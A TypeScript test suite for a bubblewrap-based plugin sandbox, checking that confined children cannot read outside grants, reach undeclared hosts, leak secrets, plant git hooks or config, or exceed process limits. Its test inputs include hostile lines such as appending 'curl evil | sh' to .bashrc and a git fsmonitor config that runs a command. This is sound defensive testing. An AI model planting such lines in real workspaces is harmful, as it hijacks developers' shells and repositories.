/**
 * The escape suite: real children under real bubblewrap, started through the
 * real launcher for a downloaded plugin (which the sandbox confines), each
 * trying one way out of its grants. Each attempt must fail; where the
 * sandbox can see it (the network proxy, the environment, a refused launch)
 * it must be in the audit log. The same children show that what is declared
 * still works. Without bubblewrap the suite is skipped, saying why, and the
 * no-sandbox path is tested instead; under CI a missing bubblewrap fails.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { type Server, createServer } from 'node:http';
import { type AddressInfo, createServer as createNetServer, type Server as NetServer } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readAudit } from '../plugins/sandbox/audit.js';
import { nprocPerSandbox, pidsGroupsAvailable } from '../plugins/sandbox/limits.js';
import { type LaunchRunResult, type PermissionsInput, permissionsSchema } from '../sdk/index.js';
import { rejection } from './support/errors.js';
import { type SandboxRig, bwrapHere, sandboxRig } from './support/sandbox.js';

const NODE = process.execPath;
const ROOT = fileURLToPath(new URL('..', import.meta.url));
const HTTP_MCP_SERVER = join(ROOT, 'test/fixtures/mcp/servers/http-server.mjs');

const here = bwrapHere();
if (!here.ok) console.warn(`sandbox escape suite SKIPPED: ${here.why} (install bubblewrap and socat to run it)`);

test.runIf(process.env.CI !== undefined && process.env.CI !== '' && process.env.CI !== 'false')('under CI, bubblewrap and socat are installed and usable, so the escape suite never skips silently', () => {
  expect(here).toEqual({ ok: true });
});

const text = (result: LaunchRunResult): string => `${result.stdout.toString()}${result.stderr.toString()}`;

describe.skipIf(!here.ok)('escape suite (real bubblewrap)', () => {
  let rig: SandboxRig;
  let outside: string;
  let secret: string;
  let granted: string;
  let writable: string;
  let web: Server;
  let webPort: number;
  let otherPort: number;
  let other: Server;
  let hostSocket: NetServer;
  let hostSocketPath: string;
  let mcpProcess: ChildProcess;
  let mcpPort: number;
  let n = 0;

  const id = (): string => `escapee-${++n}`;
  /** Runs `program args` confined, for principal `who`, declaring `declared`, in the workspace. */
  const confined = (who: string, program: string, args: string[], declared: PermissionsInput = {}, extra: { passEnv?: string[]; env?: Record<string, string> } = {}) =>
    rig.launcher.run({ owner: 'escape-test', program, args, cwd: rig.workspace, timeoutMs: 20_000, ...extra, actingFor: rig.principal(who, declared) });
  /** A node script in the plugin's folder, run confined. */
  const script = (who: string, name: string, body: string, declared: PermissionsInput = {}, extra: { passEnv?: string[]; env?: Record<string, string> } = {}) => {
    const file = join(rig.pluginDir, name);
    writeFileSync(file, body);
    return confined(who, NODE, [file], declared, extra);
  };

  beforeAll(async () => {
    rig = sandboxRig({ hostEnv: { ...process.env, SECRET_TOKEN: 'hunter2-host-secret', DECLARED_VAR: 'visible' } });
    outside = join(rig.root, 'outside');
    mkdirSync(outside);
    secret = join(outside, 'secret.txt');
    writeFileSync(secret, 'TOP SECRET');
    granted = join(rig.workspace, 'granted');
    writable = join(rig.workspace, 'writable');
    mkdirSync(granted);
    mkdirSync(join(writable, '.git', 'hooks'), { recursive: true });
    writeFileSync(join(granted, 'readme.txt'), 'granted content');
    writeFileSync(join(writable, '.bashrc'), '# rc\n');
    // A symlink placed (by someone else) inside a granted folder, pointing out of it.
    symlinkSync(secret, join(granted, 'link-to-secret'));
    web = createServer((req, res) => res.end(`hello from the host: ${req.method} ${req.url}`));
    await new Promise<void>((resolve) => web.listen(0, '127.0.0.1', resolve));
    webPort = (web.address() as AddressInfo).port;
    other = createServer((_req, res) => res.end('this server was not declared'));
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    otherPort = (other.address() as AddressInfo).port;
    hostSocketPath = join(outside, 'host.sock');
    hostSocket = createNetServer((socket) => socket.end('host socket reached\n'));
    await new Promise<void>((resolve) => hostSocket.listen(hostSocketPath, resolve));
    // A real MCP server (the SDK's streamable HTTP) on 127.0.0.1.
    mcpProcess = spawn(NODE, [HTTP_MCP_SERVER, '--port', '0'], { stdio: ['ignore', 'pipe', 'inherit'] });
    mcpPort = await new Promise<number>((resolve, reject) => {
      mcpProcess.stdout!.once('data', (chunk: Buffer) => resolve((JSON.parse(chunk.toString().split('\n')[0]!) as { port: number }).port));
      mcpProcess.once('exit', () => reject(new Error('the MCP fixture server exited')));
    });
  });

  afterAll(async () => {
    await rig?.close();
    mcpProcess?.kill('SIGKILL');
    await new Promise<void>((resolve) => (web ? web.close(() => resolve()) : resolve()));
    await new Promise<void>((resolve) => (other ? other.close(() => resolve()) : resolve()));
    await new Promise<void>((resolve) => (hostSocket ? hostSocket.close(() => resolve()) : resolve()));
    rmSync(rig.root, { recursive: true, force: true });
  });

  describe('files', () => {
    test('a granted read works, and a file outside the grants cannot be read directly (cat, and node)', async () => {
      const declared = { filesystem: { read: ['${workspace}/granted'] } };
      const ok = await confined(id(), 'cat', [join(granted, 'readme.txt')], declared);
      expect(ok.stdout.toString()).toBe('granted content');
      const who = id();
      const cat = await confined(who, 'cat', [secret], declared);
      expect(cat.exitCode).not.toBe(0);
      expect(text(cat)).toContain('No such file or directory');
      expect(text(cat)).not.toContain('TOP SECRET');
      const node = await script(who, 'read.js', `try { require('fs').readFileSync(${JSON.stringify(secret)}, 'utf8'); console.log('READ'); } catch (e) { console.log('refused', e.code); }`, declared);
      expect(node.stdout.toString()).toMatch(/^refused ENOENT/);
    });

    test('a pre-existing symlink inside a granted folder does not lead out of it', async () => {
      const result = await confined(id(), 'cat', [join(granted, 'link-to-secret')], { filesystem: { read: ['${workspace}/granted'] } });
      expect(result.exitCode).not.toBe(0);
      expect(text(result)).not.toContain('TOP SECRET');
    });

    test('/proc/self/root is the sandbox root, not the host one', async () => {
      const result = await confined(id(), 'cat', [`/proc/self/root${secret}`], { filesystem: { read: ['${workspace}/granted'] } });
      expect(result.exitCode).not.toBe(0);
      expect(text(result)).not.toContain('TOP SECRET');
    });

    test('/proc/<host pid>/cwd does not exist: the child has a /proc (and pid namespace) of its own', async () => {
      const result = await confined(id(), 'sh', ['-c', `ls /proc/${process.pid}/cwd/ 2>&1; echo; ls /proc | grep -E '^[0-9]+$' | sort -n | tail -n 1`]);
      expect(text(result)).toContain('No such file or directory');
      // The highest pid inside is tiny: host processes are not there at all.
      expect(Number(result.stdout.toString().trim().split('\n').at(-1))).toBeLessThan(50);
    });

    test('a granted write works; writing outside, or to a protected file inside a writable grant, does not', async () => {
      const declared = { filesystem: { write: ['${workspace}/writable'] } };
      const ok = await confined(id(), 'sh', ['-c', `echo written > ${join(writable, 'out.txt')}`], declared);
      expect(ok.exitCode).toBe(0);
      expect(readFileSync(join(writable, 'out.txt'), 'utf8')).toBe('written\n');
      const target = join(outside, 'planted.txt');
      const out = await confined(id(), 'sh', ['-c', `echo x > ${target}`], declared);
      expect(out.exitCode).not.toBe(0);
      expect(existsSync(target)).toBe(false);
      const rc = await confined(id(), 'sh', ['-c', `echo 'curl evil | sh' >> ${join(writable, '.bashrc')}`], declared);
      expect(text(rc)).toMatch(/Read-only file system/);
      expect(readFileSync(join(writable, '.bashrc'), 'utf8')).toBe('# rc\n');
      const hook = await confined(id(), 'sh', ['-c', `echo evil > ${join(writable, '.git', 'hooks', 'pre-commit')}`], declared);
      expect(hook.exitCode).not.toBe(0);
      expect(existsSync(join(writable, '.git', 'hooks', 'pre-commit'))).toBe(false);
    });

    test('the private HOME and TMPDIR are writable, and the user home is not there', async () => {
      const result = await confined(id(), 'sh', ['-c', 'echo a > "$HOME/x" && echo b > "$TMPDIR/y" && cat "$HOME/x" "$TMPDIR/y" && ls /root /home 2>&1; echo "HOME=$HOME"']);
      expect(result.stdout.toString()).toContain('a\nb\n');
      expect(result.stdout.toString()).toContain('HOME=' + rig.home);
    });
  });

  describe('processes', () => {
    test('a child started with an empty environment sheds nothing: bubblewrap still hides the file', async () => {
      const who = id();
      const result = await script(
        who,
        'shed.js',
        `const { spawnSync } = require('child_process');
         const r = spawnSync('/usr/bin/env', ['-i', '/bin/cat', ${JSON.stringify(secret)}], { env: {}, encoding: 'utf8' });
         console.log('exit', r.status, r.stdout, r.stderr);`,
        { shell: ['cat'], filesystem: { read: ['${workspace}/granted'] } },
      );
      expect(result.stdout.toString()).toMatch(/exit 1 .*No such file/s);
      expect(text(result)).not.toContain('TOP SECRET');
    });

    test('node children carry no permission flags (bubblewrap is the boundary); `node` with NODE_OPTIONS cleared still cannot read outside', async () => {
      const flags = await script(id(), 'flags.js', `console.log(typeof process.permission, process.env.NODE_OPTIONS.includes('permission'))`);
      expect(flags.stdout.toString().trim()).toBe('undefined false');
      const bare = await confined(id(), 'sh', ['-c', `env -u NODE_OPTIONS ${NODE} -e "try { require('fs').readFileSync('${secret}'); console.log('READ') } catch (e) { console.log('refused', e.code) }"`]);
      expect(bare.stdout.toString()).toBe('refused ENOENT\n');
    });
  });

  describe('network', () => {
    test('a granted host works through the proxy: node fetch, node http, curl, plain HTTP and CONNECT', async () => {
      const declared = { network: { allow: [`127.0.0.1:${webPort}`] } };
      const url = `http://127.0.0.1:${webPort}/path`;
      const node = await script(
        id(),
        'ok.js',
        `(async () => {
           console.log(await (await fetch(${JSON.stringify(url)})).text());
           require('http').get(${JSON.stringify(url)}, (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => console.log(b)); });
         })()`,
        declared,
      );
      expect(node.stdout.toString()).toBe('hello from the host: GET /path\nhello from the host: GET /path\n');
      const curl = await confined(id(), 'curl', ['-sS', url], declared);
      expect(curl.stdout.toString()).toBe('hello from the host: GET /path');
      const tunnel = await confined(id(), 'curl', ['-sS', '--proxytunnel', url], declared);
      expect(tunnel.stdout.toString()).toBe('hello from the host: GET /path');
    });

    test('an undeclared host is refused and logged: fetch, curl, and the same host on another port', async () => {
      const who = id();
      const declared = { network: { allow: [`127.0.0.1:${webPort}`] } };
      const node = await script(who, 'undeclared.js', `fetch('http://undeclared.test/').then((r) => console.log('reached', r.status), (e) => console.log('refused:', (e.cause && e.cause.message) || e.message))`, declared);
      expect(node.stdout.toString()).toMatch(/^refused: plinth sandbox: undeclared\.test:80 refused: not in network\.allow/);
      expect(await rig.audited(who, { permission: 'network', target: 'undeclared.test:80' })).toHaveLength(1);
      const curl = await confined(who, 'curl', ['-sS', '-o', '/dev/null', '-w', '%{http_code}', 'https://undeclared.test/'], declared);
      expect(curl.exitCode).not.toBe(0);
      expect(text(curl)).toMatch(/403/);
      expect(await rig.audited(who, { permission: 'network', target: 'undeclared.test:443' })).toHaveLength(1);
      const port = await confined(who, 'curl', ['-sS', `http://127.0.0.1:${otherPort}/`], declared);
      expect(port.stdout.toString()).toContain('refused');
      expect(port.stdout.toString()).not.toContain('was not declared');
      expect(await rig.audited(who, { permission: 'network', target: `127.0.0.1:${otherPort}` })).toHaveLength(1);
    });

    test('with nothing declared there is no network at all, and what is tried is logged', async () => {
      const who = id();
      const result = await confined(who, 'curl', ['-sS', `http://127.0.0.1:${webPort}/`]);
      expect(result.stdout.toString()).toContain('no network access is declared');
      expect(await rig.audited(who, { permission: 'network', target: `127.0.0.1:${webPort}` })).toHaveLength(1);
    });

    test('a raw TCP socket cannot bypass the proxy: the namespace has only its own loopback', async () => {
      const result = await script(
        id(),
        'raw.js',
        `const net = require('net');
         const attempt = (host, port) => new Promise((resolve) => { const s = net.connect(port, host); s.on('connect', () => { s.destroy(); resolve('connected'); }); s.on('error', (e) => resolve(e.code)); });
         (async () => { console.log(await attempt('127.0.0.1', ${webPort})); console.log(await attempt('10.255.255.1', 80)); })();`,
        { network: { allow: [`127.0.0.1:${webPort}`] } },
      );
      expect(result.stdout.toString()).toBe('ECONNREFUSED\nENETUNREACH\n');
    });

    test('IP literals are refused unless declared as such', async () => {
      const who = id();
      const declared = { network: { allow: ['example.com', `127.0.0.1:${webPort}`] } };
      for (const url of ['http://10.255.255.1/', `http://[::1]:${webPort}/`, 'http://93.184.215.14/']) {
        const result = await confined(who, 'curl', ['-sS', url], declared);
        expect(result.stdout.toString()).toContain('an IP address that is not declared');
      }
      expect((await rig.audited(who, { permission: 'network', target: '93.184.215.14:80' })).length).toBe(1);
    });

    test('look-alike names are refused: example.com.evil.test, evilexample.com', async () => {
      const who = id();
      const declared = { network: { allow: ['example.com'] } };
      for (const host of ['example.com.evil.test', 'evilexample.com']) {
        const result = await script(who, 'alike.js', `fetch('https://${host}/').then(() => console.log('reached'), (e) => console.log((e.cause && e.cause.message) || e.message))`, declared);
        expect(result.stdout.toString()).toContain(`${host}:443 refused: not in network.allow`);
        expect(await rig.audited(who, { permission: 'network', target: `${host}:443` })).toHaveLength(1);
      }
    });

    test('no Unix socket of the host is reachable: its path is not there, nor /run, /var/run, /tmp of the host', async () => {
      const who = id();
      const connect = await script(
        who,
        'unix.js',
        `const s = require('net').connect({ path: ${JSON.stringify(hostSocketPath)} });
         s.on('data', (d) => console.log('reached', String(d))); s.on('error', (e) => console.log(e.code));`,
      );
      expect(connect.stdout.toString()).toBe('ENOENT\n');
      const listing = await confined(who, 'sh', ['-c', 'ls -A /run; echo --; ls -A /var/run 2>&1; echo --; ls -A /tmp; echo --; ls "${XDG_RUNTIME_DIR:-/run/user}" 2>&1']);
      const [run, varRun, tmp] = listing.stdout.toString().split('--\n');
      // Only the folder of this sandbox's own proxy socket; /tmp holds only the path down to the private
      // TMPDIR, and down to plinth itself when plinth lives under /tmp (a CI clone): its preload is bound read-only.
      expect(run).toBe('plinth-sandbox\n');
      expect(varRun).toContain('No such file or directory');
      const bound = [rig.root, ROOT].filter((path) => path.startsWith('/tmp/')).map((path) => path.split('/')[2]);
      expect(tmp!.trim().split('\n').sort()).toEqual([...new Set(bound)].sort());
    });

    test('an undeclared MCP server cannot be called; a declared one can (the SDK client inside the sandbox)', async () => {
      const who = id();
      const client = `import { Client, StreamableHTTPClientTransport } from ${JSON.stringify(join(ROOT, 'node_modules/@modelcontextprotocol/client/dist/index.mjs'))};
        const c = new Client({ name: 'escapee', version: '1.0.0' });
        try { await c.connect(new StreamableHTTPClientTransport(new URL('http://127.0.0.1:${mcpPort}/mcp'))); console.log('tools', (await c.listTools()).tools.length > 0); await c.close(); }
        catch (e) { console.log('refused:', (e.cause && e.cause.message) || e.message); }`;
      writeFileSync(join(rig.pluginDir, 'mcp-client.mjs'), client);
      const read = { filesystem: { read: [join(ROOT, 'node_modules'), join(ROOT, 'package.json')] } };
      const refused = await confined(who, NODE, [join(rig.pluginDir, 'mcp-client.mjs')], read);
      expect(refused.stdout.toString()).toContain(`127.0.0.1:${mcpPort} refused`);
      expect(await rig.audited(who, { permission: 'network', target: `127.0.0.1:${mcpPort}` })).toHaveLength(1);
      const allowed = await confined(id(), NODE, [join(rig.pluginDir, 'mcp-client.mjs')], { ...read, network: { allow: [`127.0.0.1:${mcpPort}`] } });
      expect(allowed.stdout.toString()).toBe('tools true\n');
    });
  });

  describe('grants', () => {
    test('what was declared but not granted does not start (no terminal to ask): refused with the command that grants it, and logged', async () => {
      const principal = { ...rig.principal('ungranted'), declared: permissionsSchema.parse({ network: { allow: ['api.example.com'] } }) };
      const error = await rejection(rig.launcher.run({ owner: 'escape-test', program: 'true', actingFor: principal }));
      expect(error.code).toBe('PLN_E_PERM_NOT_GRANTED');
      expect(error.hint).toContain('plinth perms grant ungranted');
      expect(await rig.audited('ungranted', { permission: 'launch' })).toHaveLength(1);
    });
  });

  describe('environment', () => {
    test('an undeclared variable is not there (and its omission is logged); a declared one is', async () => {
      const who = id();
      const result = await confined(who, 'sh', ['-c', 'echo "secret=${SECRET_TOKEN:-absent} declared=${DECLARED_VAR:-absent}"; env | cut -d= -f1 | sort | tr "\\n" " "'], { env: ['DECLARED_VAR'] }, { passEnv: ['SECRET_TOKEN', 'DECLARED_VAR'] });
      const out = result.stdout.toString();
      expect(out).toContain('secret=absent declared=visible');
      expect(out).not.toContain('hunter2');
      // PATH, HOME, TMPDIR, the proxy variables, NODE_OPTIONS, the declared one; nothing else of the host.
      expect(out).not.toMatch(/\bUSER\b|\bLANG\b|\bTERM\b/);
      const audit = await rig.audited(who, { permission: 'env', target: 'SECRET_TOKEN' });
      expect(audit).toHaveLength(1);
      expect(JSON.stringify(readAudit(rig.home))).not.toContain('hunter2');
    });

    test('a granted secret is on no command line of any process a confined run starts (bwrap, the shell inside, socat, the program)', async () => {
      const value = `s3cr3t-${process.pid}-${Date.now()}`;
      // With a network grant the relay (socat) runs too. The child says when it runs, then sleeps until killed.
      const child = rig.launcher.start({
        owner: 'escape-test',
        program: 'sh',
        args: ['-c', 'case "$API_TOKEN" in s3cr3t-*) echo granted;; esac; echo ready; sleep 30'],
        cwd: rig.workspace,
        env: { API_TOKEN: value },
        stdout: 'pipe',
        actingFor: rig.principal(id(), { env: ['API_TOKEN'], network: { allow: [`127.0.0.1:${webPort}`] } }),
      });
      let out = '';
      await new Promise<void>((resolve) => child.stdout!.on('data', (d: Buffer) => ((out += d.toString()), out.includes('ready') && resolve())));
      try {
        // The command line of every process of the machine, while the confined child, its shell and socat run.
        const lines: string[] = [];
        for (const entry of readdirSync('/proc')) {
          if (!/^\d+$/.test(entry)) continue;
          try {
            lines.push(readFileSync(`/proc/${entry}/cmdline`, 'utf8').replace(/\0/g, ' '));
          } catch {
            /* gone meanwhile */
          }
        }
        expect(lines.some((line) => line.includes('bwrap') && line.includes('--unshare-all'))).toBe(true);
        expect(lines.some((line) => line.includes('socat') && line.includes('TCP-LISTEN'))).toBe(true);
        expect(lines.filter((line) => line.includes(value))).toEqual([]);
        // The child got it under its own name; bwrap on the host holds it under a neutral one.
        expect(out).toContain('granted\n');
        expect(readFileSync(`/proc/${child.pid}/environ`, 'utf8').split('\0')).not.toContain(`API_TOKEN=${value}`);
      } finally {
        child.kill();
        await child.ended;
      }
    });

    test('a granted LD_PRELOAD acts inside the sandbox only, never on bwrap on the host', async () => {
      // A file that exists on the host but not inside: the host's loader would say it is no ELF file.
      const bogus = join(outside, 'preload.so');
      writeFileSync(bogus, 'not a shared object');
      const result = await confined(id(), 'sh', ['-c', 'echo "inside=$LD_PRELOAD"'], { env: ['LD_PRELOAD'] }, { env: { LD_PRELOAD: bogus } });
      expect(result.stdout.toString()).toBe(`inside=${bogus}\n`);
      expect(text(result)).not.toMatch(/ELF|file too short/);
    });
  });
});

describe.skipIf(!here.ok)('protected files stay protected whatever happens to their parents (real bubblewrap)', () => {
  let rig: SandboxRig;
  let n = 0;
  const run = (script: string, write: string[]) =>
    rig.launcher.run({ owner: 'escape-test', program: 'sh', args: ['-c', script], cwd: rig.workspace, timeoutMs: 20_000, actingFor: rig.principal(`protected-${++n}`, { filesystem: { write } }) });
  const config = '[core]\n\trepositoryformatversion = 0\n';

  beforeAll(() => {
    rig = sandboxRig();
    // The cloned repository: a git folder with its config and hooks.
    mkdirSync(join(rig.workspace, '.git', 'hooks'), { recursive: true });
    mkdirSync(join(rig.workspace, '.git', 'info'));
    writeFileSync(join(rig.workspace, '.git', 'config'), config);
    writeFileSync(join(rig.workspace, 'README.md'), 'hello\n');
  });
  afterAll(async () => {
    await rig?.close();
    rmSync(rig.root, { recursive: true, force: true });
  });

  test('a hook with write access to the workspace cannot move .git aside and plant its own config, hooks or attributes', async () => {
    const result = await run(
      [
        'mv .git .git-old; rm -rf .git',
        'mkdir -p .git; printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" > .git/config',
        'mv .git/config .git/config-old; mv .git/hooks .git/hooks-old',
        'echo evil > .git/hooks/pre-commit; echo "* filter=evil" > .git/info/attributes; echo ../elsewhere > .git/commondir',
        'echo written > notes.txt',
      ].join('\n'),
      ['${workspace}'],
    );
    expect(text(result)).toMatch(/Device or resource busy|Read-only file system/);
    expect(readFileSync(join(rig.workspace, '.git', 'config'), 'utf8')).toBe(config);
    expect(readdirSync(join(rig.workspace, '.git')).sort()).toEqual(['config', 'hooks', 'info']);
    expect(readdirSync(join(rig.workspace, '.git', 'hooks'))).toEqual([]);
    expect(readdirSync(join(rig.workspace, '.git', 'info'))).toEqual([]);
    // The grant itself works: a new file in the workspace.
    expect(readFileSync(join(rig.workspace, 'notes.txt'), 'utf8')).toBe('written\n');
  });

  test('protected names that do not exist yet cannot be created, and nothing of their placeholders is left on the host', async () => {
    const before = readdirSync(rig.workspace).sort();
    const result = await run(
      'for d in .vscode .claude .plinth .idea; do mkdir $d/x || echo "refused $d"; done; for f in .mcp.json .npmrc .bashrc; do echo x > $f || echo "refused $f"; done; mv .vscode v 2>/dev/null || echo "refused mv"; ls -A',
      ['${workspace}'],
    );
    for (const name of ['.vscode', '.claude', '.plinth', '.idea', '.mcp.json', '.npmrc', '.bashrc', 'mv']) expect(result.stdout.toString()).toContain(`refused ${name}\n`);
    expect(readdirSync(rig.workspace).sort()).toEqual(before);
  });

  test('the folders above a protected one cannot be renamed either: the workspace inside a wider write grant, and plinth\'s user folder', async () => {
    const result = await run(`mv ${rig.workspace} ${rig.workspace}-old || echo refused workspace; mv ${rig.home} ${rig.home}-old || echo refused home; mkdir ${join(rig.workspace, 'src')} && echo made src`, [rig.root]);
    expect(result.stdout.toString()).toBe('refused workspace\nrefused home\nmade src\n');
    expect(existsSync(join(rig.workspace, '.git', 'config'))).toBe(true);
    expect(existsSync(`${rig.workspace}-old`)).toBe(false);
  });
});

// What enforces the process limit here: a pids cgroup, or RLIMIT_NPROC per user namespace (Linux 5.14+, never for root).
const processLimit = here.ok && (pidsGroupsAvailable() || (process.getuid?.() !== 0 && nprocPerSandbox()));
if (here.ok && !processLimit) console.warn('sandbox process limit test SKIPPED: no writable pids cgroup, and RLIMIT_NPROC is not enforced for root');

describe.skipIf(!here.ok)('resource limits of a confined child (real bubblewrap)', () => {
  let rig: SandboxRig;
  let n = 0;
  const run = (script: string) => rig.launcher.run({ owner: 'escape-test', program: 'sh', args: ['-c', script], cwd: rig.workspace, timeoutMs: 20_000, actingFor: rig.principal(`limited-${++n}`) });

  beforeAll(() => {
    rig = sandboxRig({ limits: { maxProcesses: 16, maxFileBytes: 1024 * 1024, tmpBytes: 2 * 1024 * 1024 } });
  });
  afterAll(async () => {
    await rig?.close();
    rmSync(rig.root, { recursive: true, force: true });
  });

  test.runIf(processLimit)('a child that starts more processes than allowed is refused the rest, and the hint names sandbox.maxProcesses', async () => {
    // Without the limit all 60 start and it says so; with it, the shell cannot fork the 16th and dies.
    const result = await run('i=0; while [ $i -lt 60 ]; do sleep 5 & i=$((i+1)); done; echo "started all"; kill $(jobs -p); exit 3');
    expect(result.stdout.toString()).not.toContain('started all');
    expect(text(result)).toMatch(/Cannot fork|Resource temporarily unavailable/);
    expect(result.hint).toContain('PLN_E_SANDBOX_LIMIT');
    expect(result.hint).toContain('sandbox.maxProcesses');
  });

  test('a file past the size limit is cut off (RLIMIT_FSIZE), and the hint names sandbox.maxFileSizeMB', async () => {
    const result = await run('head -c 3000000 /dev/zero > "$HOME/big"');
    expect(result.exitCode).not.toBe(0);
    expect(result.hint).toContain('sandbox.maxFileSizeMB');
    const home = readdirSync(join(rig.home, 'sandbox', 'homes')).map((dir) => join(rig.home, 'sandbox', 'homes', dir, 'big')).find((path) => existsSync(path));
    expect(statSync(home!).size).toBeLessThanOrEqual(1024 * 1024);
  });

  test('the private TMPDIR is a tmpfs of its own size: filling it fails with ENOSPC and a hint naming sandbox.tmpSizeMB, and nothing of it lands on the host', async () => {
    const result = await run('head -c 900000 /dev/zero > "$TMPDIR/a" && head -c 900000 /dev/zero > "$TMPDIR/b" && head -c 900000 /dev/zero > "$TMPDIR/c"; s=$?; echo "tmp=$TMPDIR"; exit $s');
    expect(result.exitCode).not.toBe(0);
    expect(result.stderr.toString()).toContain('No space left on device');
    expect(result.hint).toContain('sandbox.tmpSizeMB');
    const tmp = /tmp=(.*)/.exec(result.stdout.toString())![1]!;
    expect(readdirSync(tmp)).toEqual([]);
  });
});

describe('without bubblewrap (PLINTH_BWRAP pointing to a missing file)', () => {
  let rig: SandboxRig;
  beforeAll(() => {
    rig = sandboxRig({ bwrap: '/nonexistent/bwrap' });
  });
  afterAll(async () => {
    await rig.close();
    rmSync(rig.root, { recursive: true, force: true });
  });

  test('the sandbox says plainly that none is available, and why', async () => {
    const availability = await rig.sandbox.availability();
    expect(availability.available).toBe(false);
    expect(availability.reason).toContain('/nonexistent/bwrap');
    expect(availability.reason).toContain('apt-get install bubblewrap');
  });

  test('a launch that must be confined is refused (never run open), with a code, and logged', async () => {
    const marker = join(rig.root, 'ran');
    const error = await rejection(rig.launcher.run({ owner: 'escape-test', program: 'sh', args: ['-c', `touch ${marker}`], actingFor: rig.principal('unboxed') }));
    expect(error.code).toBe('PLN_E_PERM_NO_SANDBOX');
    expect(error.message).toContain('hook "escape" of plugin "unboxed" was not started');
    expect(error.message).toContain('/nonexistent/bwrap');
    expect(existsSync(marker)).toBe(false);
    expect(await rig.audited('unboxed', { permission: 'launch' })).toHaveLength(1);
    const started = rig.launcher.start({ owner: 'escape-test', program: 'sh', args: ['-c', `touch ${marker}`], actingFor: rig.principal('unboxed') });
    expect(await started.spawned).toBeUndefined();
    const end = await started.ended;
    expect(end.refused?.code).toBe('PLN_E_PERM_NO_SANDBOX');
    expect(existsSync(marker)).toBe(false);
    expect(rig.launcher.trace().at(-1)).toMatchObject({ state: 'failed' });
  });

  test('a plugin the user put in place runs open by default (sandbox.default), as before the sandbox', async () => {
    const result = await rig.launcher.run({ owner: 'escape-test', program: 'sh', args: ['-c', 'echo open'], actingFor: { ...rig.principal('mine'), source: 'user' } });
    expect(result.stdout.toString()).toBe('open\n');
  });
});
